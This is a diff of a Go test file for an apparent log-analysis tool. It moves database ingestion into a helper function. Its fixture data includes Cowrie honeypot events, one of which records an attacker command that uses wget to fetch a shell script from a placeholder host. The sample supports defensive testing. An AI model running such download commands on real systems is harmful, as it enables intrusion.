@@ -9,7 +9,6 @@ import (
 	"github.com/charmbracelet/x/ansi"
 	"github.com/longtail/longtail/db"
 	engsubject "github.com/longtail/longtail/engine/subject"
-	"github.com/longtail/longtail/internal/testws"
 	"github.com/longtail/longtail/tui/common"
 	"github.com/longtail/longtail/tui/internal/tuitest"
 )
@@ -25,16 +24,7 @@ func logons(t *testing.T) common.Common {
 		"Mar 27 13:09:00 web1 sshd[1303]: Accepted password for root from 10.0.2.18 port 50693 ssh2\n")
 	write(t, pot, `{"eventid": "cowrie.login.success", "username": "root", "password": "hunter2", "timestamp": "2018-06-01T00:05:01Z", "src_ip": "192.0.2.7", "sensor": "pot1"}`+"\n"+
 		`{"eventid": "cowrie.command.input", "input": "wget http://x.example/a.sh", "timestamp": "2018-06-01T00:05:02Z", "src_ip": "192.0.2.7", "sensor": "pot1"}`+"\n")
-	ws := filepath.Join(dir, "ws.db")
-	if err := testws.Ingest(ws, auth, pot); err != nil {
-		t.Fatal(err)
-	}
-	d, err := db.Open(ws, db.Options{})
-	if err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(func() { d.Close() })
-	return common.New(context.Background(), d)
+	return ingested(t, dir, auth, pot)
 }
 
 // The logons of an account have the logon's columns (source, type,
